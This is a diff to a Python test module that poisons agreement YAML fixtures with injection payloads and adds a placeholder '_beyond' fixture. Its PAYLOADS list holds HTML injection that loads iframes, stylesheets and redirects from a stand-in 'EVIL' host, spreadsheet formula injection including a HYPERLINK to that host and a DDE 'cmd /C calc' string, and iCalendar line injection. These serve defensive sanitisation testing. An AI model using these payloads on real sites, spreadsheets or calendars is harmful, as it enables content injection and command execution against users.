@@ -17,7 +17,8 @@ from conftest import GOLDEN
 from pydantic import TypeAdapter, ValidationError
 from ruamel.yaml import YAML
 
-from generator.model.agreement import Agreement, Glossary, Register
+from generator.model.agreement import Agreement, Glossary, Initiative, Register, Source
+from generator.model.beyond import Beyond
 from generator.model.fields import Value
 from generator.model.versions import Versions
 from generator.reading.past_versions import PlainReader
@@ -46,7 +47,6 @@ PAYLOADS = (
     f"</textarea></style><iframe src=//{EVIL}/i></iframe><base href=//{EVIL}/>",
     f"<meta http-equiv=refresh content=0;url=//{EVIL}/><link rel=stylesheet href=//{EVIL}/c>",
     f"<style>@import '//{EVIL}/s'</style><p style=color:red>",
-    "\N{LINE SEPARATOR}pwned.push(9)\N{PARAGRAPH SEPARATOR}",
     f'=HYPERLINK("http://{EVIL}","x")',
     "=cmd|' /C calc'!A0",
     "+1+1",
@@ -56,7 +56,7 @@ PAYLOADS = (
     "＋1+1",
     "－1+1",
     "＠SUM(1)",
-    f"x\r\nATTENDEE:mailto:x@{EVIL}",
+    f"x\nATTENDEE:mailto:x@{EVIL}",  # the other ends of lines are refused when a file is read
     "x\nEND:VEVENT\nBEGIN:VALARM",
     "semi;kolon,komma:kolon\\n\\;",
     "a;\"b\",'c'\td",
@@ -168,15 +168,15 @@ def poisoned_folder(to: Path, salt: str) -> Poison:
     """Make *to* the golden agreements, with versions, full of payloads; returns what was put into them."""
     shutil.copytree(GOLDEN / "agreements", to, dirs_exist_ok=True)
     (to / "_versions.yaml").write_text(VERSIONS, encoding="utf-8")
+    (to / "_beyond.yaml").write_text(BEYOND, encoding="utf-8")
     poison = Poison(salt)
     yaml = YAML(typ="safe", pure=True)
     yaml.allow_unicode = True
     for path in sorted(to.glob("*.yaml")):
         tree = PlainReader().plain(path.read_bytes()).tree
         assert tree is not None
-        model = {"_register": Register, "_glossary": Glossary, "_versions": Versions}.get(
-            path.stem, Agreement
-        )
+        whole = {"_register": Register, "_glossary": Glossary, "_versions": Versions, "_beyond": Beyond}
+        model = whole.get(path.stem, Agreement)
         tree = poison.tree(tree, model.model_validate(tree))
         with path.open("w", encoding="utf-8", newline="\n") as out:
             yaml.dump(tree, out)
@@ -200,10 +200,54 @@ retired:
 """
 
 
+BEYOND = """\
+sources:
+  - {id: o, kind: official-page, publisher: P, title: T, url: https://example.org/o, seen: beginning, note: N}
+agreements:
+  - id: d
+    primary: [o]
+    note: N
+    initiatives:
+      - id: tunnel
+        number: '7'
+        title: T
+        heading: official
+        kind: effort
+        presence: named
+        commitment: decided
+        theme: broer
+        summary: S
+        source: o
+        phrase: p
+        confidence: confirmed
+        note: N
+        origin: {outcome: new}
+    additions:
+      - initiative: storbro
+        confidence: confirmed
+        facts:
+          - {id: lys, kind: scope, label: L, group: G, source: o, phrase: p, note: N}
+    confirmations:
+      - {initiative: storbro, sources: [o], note: N}
+    notes: [N]
+events:
+  - {id: aabnet, kind: closed, agreement: d, initiatives: [storbro, tunnel], text: T, source: o, phrase: p, confidence: confirmed, note: N}
+disputes:
+  - id: hvem
+    agreement: d
+    initiative: storbro
+    question: Q
+    accounts:
+      - {text: T, source: o, phrase: p}
+      - {text: T, source: k, phrase: p}
+    note: N
+"""
+
+
 def free_text_fields() -> Iterator[tuple[str, str]]:
     """Every field of every model that a snapshot is made of, if it takes free text."""
     for model in sorted(set(_below(Value)), key=lambda model: model.__name__):
-        if model.__subclasses__():
+        if model.__subclasses__() and model not in (Initiative, Source):
             continue  # only what others are made from
         for name in model.model_fields:
             adapter = _adapter(model, name)
